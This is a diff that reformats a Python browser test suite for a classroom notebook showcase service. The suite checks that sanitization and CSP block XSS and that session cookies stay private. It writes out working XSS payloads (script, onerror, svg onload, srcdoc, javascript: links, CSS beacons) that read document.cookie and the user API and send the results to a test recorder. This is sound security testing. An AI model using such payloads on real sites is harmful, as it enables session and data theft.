@@ -46,8 +46,12 @@ from realhub import PASSWORD, REPO, RunningHub
 pytestmark = [pytest.mark.integration, pytest.mark.browser]
 CLHUB = str(Path(sys.executable).parent / "clhub")
 AXE = REPO / "node_modules" / "axe-core" / "axe.min.js"
-PHONE: dict[str, Any] = {"viewport": {"width": 390, "height": 844}, "is_mobile": True, "has_touch": True,
-                         "device_scale_factor": 2}
+PHONE: dict[str, Any] = {
+    "viewport": {"width": 390, "height": 844},
+    "is_mobile": True,
+    "has_touch": True,
+    "device_scale_factor": 2,
+}
 TITLE, TITLE_ES = "Our street in numbers", "Nuestra calle en números"
 # What each payload reports as `from=` when it runs; `jslink` only once its link is clicked.
 PAYLOADS = ("script", "api", "onerror", "svg", "srcdoc", "jslink", "ontoggle", "tracker", "cssurl", "import")
@@ -138,25 +142,29 @@ def recorder() -> Iterator[Recorder]:
 def payload_markdown(beacon: str) -> str:
     """Classic XSS, each reporting to `beacon` with the cookies it could read, in a Markdown cell."""
     report = f"new Image().src='{beacon}?from=%s&c='+encodeURIComponent(document.cookie)"
-    return "\n\n".join([
-        "## Secret bonus level",
-        "<script>document.title='PWNED';window.clhPwned=1;" + report % "script" + ";"
-        "fetch('/hub/api/user').then(r=>r.text()).then(t=>{new Image().src="
-        f"'{beacon}?from=api&t='+encodeURIComponent(t.slice(0,300))}})</script>",
-        f'<img src=x onerror="document.title=\'PWNED\';{report % "onerror"}">',
-        f'<svg onload="{report % "svg"}"><circle r="5"/></svg>',
-        f'<iframe srcdoc="<script>{report % "srcdoc"}</script>"></iframe>',
-        f'<a href="javascript:{report % "jslink"};void 0">{PRIZE}</a>',
-        f'<details open ontoggle="{report % "ontoggle"}"><summary>More</summary>A hidden surprise.</details>',
-        f'<img src="{beacon}?from=tracker" alt="">',
-        f'<div style="background-image:url({beacon}?from=cssurl)">A styled box.</div>',
-        f'<style>@import url("{beacon}?from=import");</style>',
-    ])
+    return "\n\n".join(
+        [
+            "## Secret bonus level",
+            "<script>document.title='PWNED';window.clhPwned=1;" + report % "script" + ";"
+            "fetch('/hub/api/user').then(r=>r.text()).then(t=>{new Image().src="
+            f"'{beacon}?from=api&t='+encodeURIComponent(t.slice(0,300))}})</script>",
+            f"<img src=x onerror=\"document.title='PWNED';{report % 'onerror'}\">",
+            f'<svg onload="{report % "svg"}"><circle r="5"/></svg>',
+            f'<iframe srcdoc="<script>{report % "srcdoc"}</script>"></iframe>',
+            f'<a href="javascript:{report % "jslink"};void 0">{PRIZE}</a>',
+            f'<details open ontoggle="{report % "ontoggle"}"><summary>More</summary>A hidden surprise.</details>',
+            f'<img src="{beacon}?from=tracker" alt="">',
+            f'<div style="background-image:url({beacon}?from=cssurl)">A styled box.</div>',
+            f'<style>@import url("{beacon}?from=import");</style>',
+        ]
+    )
 
 
 def control_page(beacon: str) -> str:
-    return ("<!DOCTYPE html><html lang=\"en\"><head><meta charset=\"utf-8\"><title>control</title></head><body>"
-            f"{markdown_html(payload_markdown(beacon))}</body></html>")
+    return (
+        '<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>control</title></head><body>'
+        f"{markdown_html(payload_markdown(beacon))}</body></html>"
+    )
 
 
 def png(width: int, height: int) -> bytes:
@@ -174,32 +182,60 @@ def png(width: int, height: int) -> bytes:
 def street_notebook(beacon: str) -> dict[str, Any]:
     """The piece: what a phone finds hard (a 1600 px chart, tables wider than the screen, a long word,
     a long output line, links in a list) and, in a cell of its own, the payloads reporting to `beacon`."""
-    wide_table = ("<table><thead><tr>" + "".join(f"<th>House {n}</th>" for n in range(1, 15)) + "</tr></thead>"
-                  "<tbody><tr>" + "".join(f"<td>{n * 3} trees</td>" for n in range(1, 15)) + "</tr></tbody></table>")
-    chart = {"output_type": "display_data", "metadata": {},
-             "data": {"image/png": base64.b64encode(png(1600, 400)).decode(),
-                      "text/plain": "<Figure size 1600x400>"}}
+    wide_table = (
+        "<table><thead><tr>" + "".join(f"<th>House {n}</th>" for n in range(1, 15)) + "</tr></thead>"
+        "<tbody><tr>" + "".join(f"<td>{n * 3} trees</td>" for n in range(1, 15)) + "</tr></tbody></table>"
+    )
+    chart = {
+        "output_type": "display_data",
+        "metadata": {},
+        "data": {"image/png": base64.b64encode(png(1600, 400)).decode(), "text/plain": "<Figure size 1600x400>"},
+    }
     return {
-        "nbformat": 4, "nbformat_minor": 5,
+        "nbformat": 4,
+        "nbformat_minor": 5,
         "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}},
         "cells": [
-            {"cell_type": "markdown", "id": "intro", "metadata": {},
-             "source": "# Our street\n\nI counted the trees, cats and bikes on my street for a week. "
-                       "The longest word I know: " + "supercalifragilisticexpialidocious" * 3 + ".\n\n"
-                       "- [The library's page](https://library.example.org/our-street)\n"
-                       "- [Trees of the city](https://city.example.org/trees)\n\n"
-                       "| Day | Trees | Cats | Bikes | Buses | Birds | Dogs | Cars | Kites |\n"
-                       "|---|---|---|---|---|---|---|---|---|\n"
-                       "| Monday | 12 | 3 | 8 | 4 | 20 | 6 | 30 | 1 |\n"},
+            {
+                "cell_type": "markdown",
+                "id": "intro",
+                "metadata": {},
+                "source": "# Our street\n\nI counted the trees, cats and bikes on my street for a week. "
+                "The longest word I know: " + "supercalifragilisticexpialidocious" * 3 + ".\n\n"
+                "- [The library's page](https://library.example.org/our-street)\n"
+                "- [Trees of the city](https://city.example.org/trees)\n\n"
+                "| Day | Trees | Cats | Bikes | Buses | Birds | Dogs | Cars | Kites |\n"
+                "|---|---|---|---|---|---|---|---|---|\n"
+                "| Monday | 12 | 3 | 8 | 4 | 20 | 6 | 30 | 1 |\n",
+            },
             {"cell_type": "markdown", "id": "attack", "metadata": {}, "source": payload_markdown(beacon)},
-            {"cell_type": "code", "id": "chart", "execution_count": 1, "metadata": {},
-             "source": "draw_chart()", "outputs": [chart]},
-            {"cell_type": "code", "id": "table", "execution_count": 2, "metadata": {},
-             "source": "show_table()", "outputs": [
-                 {"output_type": "display_data", "metadata": {},
-                  "data": {"text/html": wide_table, "text/plain": "<table>"}},
-                 {"output_type": "stream", "name": "stdout",
-                  "text": "counted:" + ",".join(str(n) for n in range(200)) + "\n"}]},
+            {
+                "cell_type": "code",
+                "id": "chart",
+                "execution_count": 1,
+                "metadata": {},
+                "source": "draw_chart()",
+                "outputs": [chart],
+            },
+            {
+                "cell_type": "code",
+                "id": "table",
+                "execution_count": 2,
+                "metadata": {},
+                "source": "show_table()",
+                "outputs": [
+                    {
+                        "output_type": "display_data",
+                        "metadata": {},
+                        "data": {"text/html": wide_table, "text/plain": "<table>"},
+                    },
+                    {
+                        "output_type": "stream",
+                        "name": "stdout",
+                        "text": "counted:" + ",".join(str(n) for n in range(200)) + "\n",
+                    },
+                ],
+            },
         ],
     }
 
@@ -222,34 +258,51 @@ def hub(make_hub: Any) -> RunningHub:
 
 
 def api(hub: RunningHub, short: str, method: str, path: str, **kw: Any) -> requests.Response:
-    r = hub.api.post(f"/users/{hub.name(short)}/tokens",
-                     json={"note": "showcase browser test", "expires_in": 600,
-                           "scopes": ["access:services!service=classroom"]})
+    r = hub.api.post(
+        f"/users/{hub.name(short)}/tokens",
+        json={"note": "showcase browser test", "expires_in": 600, "scopes": ["access:services!service=classroom"]},
+    )
     assert r.status_code == 201, r.text
-    return requests.request(method, f"{hub.url}/services/classroom/api{path}", timeout=120,
-                            headers={"Authorization": f"token {r.json()['token']}"}, **kw)
+    return requests.request(
+        method,
+        f"{hub.url}/services/classroom/api{path}",
+        timeout=120,
+        headers={"Authorization": f"token {r.json()['token']}"},
+        **kw,
+    )
 
 
 def as_learner(hub: RunningHub, short: str, *cmd: str) -> str:
     name = hub.name(short)
     home = pwd.getpwnam(name).pw_dir
     env = {"HOME": home, "PATH": "/usr/bin:/bin", "JUPYTERHUB_USER": name, "CLHUB_DISPLAY_NAME": short.title()}
-    done = subprocess.run(list(cmd), env=env, cwd=home, capture_output=True, text=True, timeout=60,
-                          preexec_fn=set_user_setuid(name))
+    done = subprocess.run(
+        list(cmd), env=env, cwd=home, capture_output=True, text=True, timeout=60, preexec_fn=set_user_setuid(name)
+    )
     assert done.returncode == 0, done.stderr
     return done.stdout
 
 
 def write_as(hub: RunningHub, short: str, files: dict[str, bytes]) -> None:
     """Write files into the learner's home as the learner (so they are theirs); the bytes come on stdin."""
-    code = ("import json, sys, base64\n"
-            "for name, data in json.load(sys.stdin).items():\n"
-            "    open(name, 'wb').write(base64.b64decode(data))\n")
+    code = (
+        "import json, sys, base64\n"
+        "for name, data in json.load(sys.stdin).items():\n"
+        "    open(name, 'wb').write(base64.b64decode(data))\n"
+    )
     name = hub.name(short)
     home = pwd.getpwnam(name).pw_dir
     data = json.dumps({k: base64.b64encode(v).decode() for k, v in files.items()})
-    done = subprocess.run([sys.executable, "-c", code], input=data, cwd=home, capture_output=True, text=True,
-                          timeout=60, env={"HOME": home}, preexec_fn=set_user_setuid(name))
+    done = subprocess.run(
+        [sys.executable, "-c", code],
+        input=data,
+        cwd=home,
+        capture_output=True,
+        text=True,
+        timeout=60,
+        env={"HOME": home},
+        preexec_fn=set_user_setuid(name),
+    )
     assert done.returncode == 0, done.stderr
 
 
@@ -257,8 +310,13 @@ def share_and_propose(hub: RunningHub, title: str, notebook: str) -> str:
     """ana shares `notebook` with the street's picture and table and proposes it; returns the proposal id."""
     out = as_learner(hub, "ana", CLHUB, "share", notebook, "street.png", "street-counts.csv", "--title", title)
     piece = out.split(" as ")[1].split(" ")[0]
-    r = api(hub, "ana", "POST", f"/groups/{hub.name('g')}/showcase/proposals",
-            json={"piece": piece, "title": title, "description": "Trees, cats and bikes on my street."})
+    r = api(
+        hub,
+        "ana",
+        "POST",
+        f"/groups/{hub.name('g')}/showcase/proposals",
+        json={"piece": piece, "title": title, "description": "Trees, cats and bikes on my street."},
+    )
     assert r.status_code == 201, r.text
     return r.json()["id"]
 
@@ -278,11 +336,13 @@ def place_page(hub: RunningHub, page: str) -> str:
 
 def raw_page(beacon: str) -> str:
     """A page that never went through the sanitizer: only the service's CSP header stands in its way."""
-    return ("<!DOCTYPE html><html lang=\"en\"><head><meta charset=\"utf-8\"><title>raw</title></head><body>"
-            "<main><p>A raw page.</p></main><script>document.title='PWNED';"
-            f"new Image().src='{beacon}?from=script&c='+encodeURIComponent(document.cookie);"
-            "fetch('/hub/api/user').then(r=>r.text()).then(t=>{new Image().src="
-            f"'{beacon}?from=api&t='+encodeURIComponent(t.slice(0,300))}})</script></body></html>")
+    return (
+        '<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>raw</title></head><body>'
+        "<main><p>A raw page.</p></main><script>document.title='PWNED';"
+        f"new Image().src='{beacon}?from=script&c='+encodeURIComponent(document.cookie);"
+        "fetch('/hub/api/user').then(r=>r.text()).then(t=>{new Image().src="
+        f"'{beacon}?from=api&t='+encodeURIComponent(t.slice(0,300))}})</script></body></html>"
+    )
 
 
 @pytest.fixture(scope="module")
@@ -291,8 +351,16 @@ def links(hub: RunningHub, recorder: Recorder) -> dict[str, str]:
     snapshot with a "Play with it" button, as a piece with a live version will have), and two raw pages."""
     g = hub.name("g")
     notebook = json.dumps(street_notebook(f"{recorder.url}/hit/page")).encode()
-    write_as(hub, "ana", {"our-street.ipynb": notebook, "nuestra-calle.ipynb": notebook,
-                          "street.png": png(1200, 500), "street-counts.csv": street_csv()})
+    write_as(
+        hub,
+        "ana",
+        {
+            "our-street.ipynb": notebook,
+            "nuestra-calle.ipynb": notebook,
+            "street.png": png(1200, 500),
+            "street-counts.csv": street_csv(),
+        },
+    )
     proposal = share_and_propose(hub, TITLE, "our-street.ipynb")
     r = api(hub, "tess", "POST", f"/groups/{g}/showcase/consent/{hub.name('ana')}", json={"given": True})
     assert r.status_code == 200, r.text
@@ -337,8 +405,12 @@ def logged_in(browser: Browser, hub: RunningHub, short: str, **options: Any) -> 
     page.close()
     names = {c["name"] for c in context.cookies()}
     assert {"jupyterhub-session-id", "jupyterhub-hub-login"} <= names, names
-    context.add_cookies([{"name": "clh-canary", "value": f"canary-{host}", "url": f"http://{host}/"}
-                         for host in (urlsplit(hub.url).hostname, "127.0.0.2")])
+    context.add_cookies(
+        [
+            {"name": "clh-canary", "value": f"canary-{host}", "url": f"http://{host}/"}
+            for host in (urlsplit(hub.url).hostname, "127.0.0.2")
+        ]
+    )
     return context
 
 
@@ -366,8 +438,9 @@ def assert_untouched(page: Page, title: str) -> None:
 # --- the tests ---------------------------------------------------------------------------------
 
 
-def test_no_payload_runs_and_the_hub_session_never_leaves(hub: RunningHub, links: dict[str, str],
-                                                         recorder: Recorder, browser: Browser) -> None:
+def test_no_payload_runs_and_the_hub_session_never_leaves(
+    hub: RunningHub, links: dict[str, str], recorder: Recorder, browser: Browser
+) -> None:
     anonymous = browser.new_context(**PHONE)
     session = logged_in(browser, hub, "ana")
     # The CSP is bypassed here (as a browser that ignored the header and the meta tag would):
@@ -403,8 +476,9 @@ def test_no_payload_runs_and_the_hub_session_never_leaves(hub: RunningHub, links
         # calls the hub's API with the visitor's session.
         visit(unguarded, hub.url + links["raw-bypass"])
         reports = recorder.wait_for("raw-bypass", {"script", "api"})
-        assert f"clh-canary=canary-{urlsplit(hub.url).hostname}" in next(h["c"] for h in reports
-                                                                         if h["from"] == "script")
+        assert f"clh-canary=canary-{urlsplit(hub.url).hostname}" in next(
+            h["c"] for h in reports if h["from"] == "script"
+        )
 
         # The hub's cookies (HttpOnly) never reached the recorder, in a query or a Cookie header.
         everything = recorder.everything()
@@ -416,13 +490,16 @@ def test_no_payload_runs_and_the_hub_session_never_leaves(hub: RunningHub, links
             context.close()
 
 
-def test_the_page_on_a_phone_in_english_and_spanish(hub: RunningHub, links: dict[str, str], browser: Browser,
-                                                    artifacts: Path) -> None:
+def test_the_page_on_a_phone_in_english_and_spanish(
+    hub: RunningHub, links: dict[str, str], browser: Browser, artifacts: Path
+) -> None:
     context = browser.new_context(**PHONE)
     try:
-        for name, words in (("en", ["Made by Ana", "Trees, cats and bikes on my street."]),
-                            ("es", ["Creado por Ana", "Publicado con la aprobación de un docente"]),
-                            ("play", ["Play with it", "Opens the live version"])):
+        for name, words in (
+            ("en", ["Made by Ana", "Trees, cats and bikes on my street."]),
+            ("es", ["Creado por Ana", "Publicado con la aprobación de un docente"]),
+            ("play", ["Play with it", "Opens the live version"]),
+        ):
             page = context.new_page()
             fetched: list[str] = []
             page.on("request", lambda request, fetched=fetched: fetched.append(request.url))
@@ -454,8 +531,9 @@ def test_the_page_on_a_phone_in_english_and_spanish(hub: RunningHub, links: dict
         context.close()
 
 
-def test_the_card_shows_the_whole_link_and_a_qr_code(hub: RunningHub, links: dict[str, str], browser: Browser,
-                                                     artifacts: Path) -> None:
+def test_the_card_shows_the_whole_link_and_a_qr_code(
+    hub: RunningHub, links: dict[str, str], browser: Browser, artifacts: Path
+) -> None:
     context = browser.new_context(**PHONE)
     try:
         page = context.new_page()
@@ -471,10 +549,17 @@ def test_the_card_shows_the_whole_link_and_a_qr_code(hub: RunningHub, links: dic
 
 
 @pytest.mark.parametrize("name", ["page-en", "page-es", "page-play", "gallery", "card", "not-found"])
-def test_axe_finds_nothing_serious(hub: RunningHub, links: dict[str, str], browser: Browser, artifacts: Path,
-                                   name: str) -> None:
-    paths = {"page-en": links["en"], "page-es": links["es"], "page-play": links["play"], "gallery": links["gallery"],
-             "card": links["en"] + "/card", "not-found": "/services/showcase/p/" + "x" * 32}
+def test_axe_finds_nothing_serious(
+    hub: RunningHub, links: dict[str, str], browser: Browser, artifacts: Path, name: str
+) -> None:
+    paths = {
+        "page-en": links["en"],
+        "page-es": links["es"],
+        "page-play": links["play"],
+        "gallery": links["gallery"],
+        "card": links["en"] + "/card",
+        "not-found": "/services/showcase/p/" + "x" * 32,
+    }
     # The pages forbid every script (CSP sandbox, and a meta CSP of default-src 'none'), axe's too:
     # this context bypasses CSP so axe can be injected. It only measures; the security checks above
     # never use a bypassing context except to show what the CSP stops.
@@ -486,8 +571,11 @@ def test_axe_finds_nothing_serious(hub: RunningHub, links: dict[str, str], brows
         page.add_script_tag(path=str(AXE))
         report = page.evaluate("axe.run(document, {resultTypes: ['violations']})")
         (artifacts / f"axe-showcase-{name}.json").write_text(json.dumps(report, indent=1))
-        serious = [(v["id"], v["impact"], v["help"], [n["target"] for n in v["nodes"]][:5])
-                   for v in report["violations"] if v["impact"] in ("serious", "critical")]
+        serious = [
+            (v["id"], v["impact"], v["help"], [n["target"] for n in v["nodes"]][:5])
+            for v in report["violations"]
+            if v["impact"] in ("serious", "critical")
+        ]
         assert serious == [], serious
     finally:
         context.close()
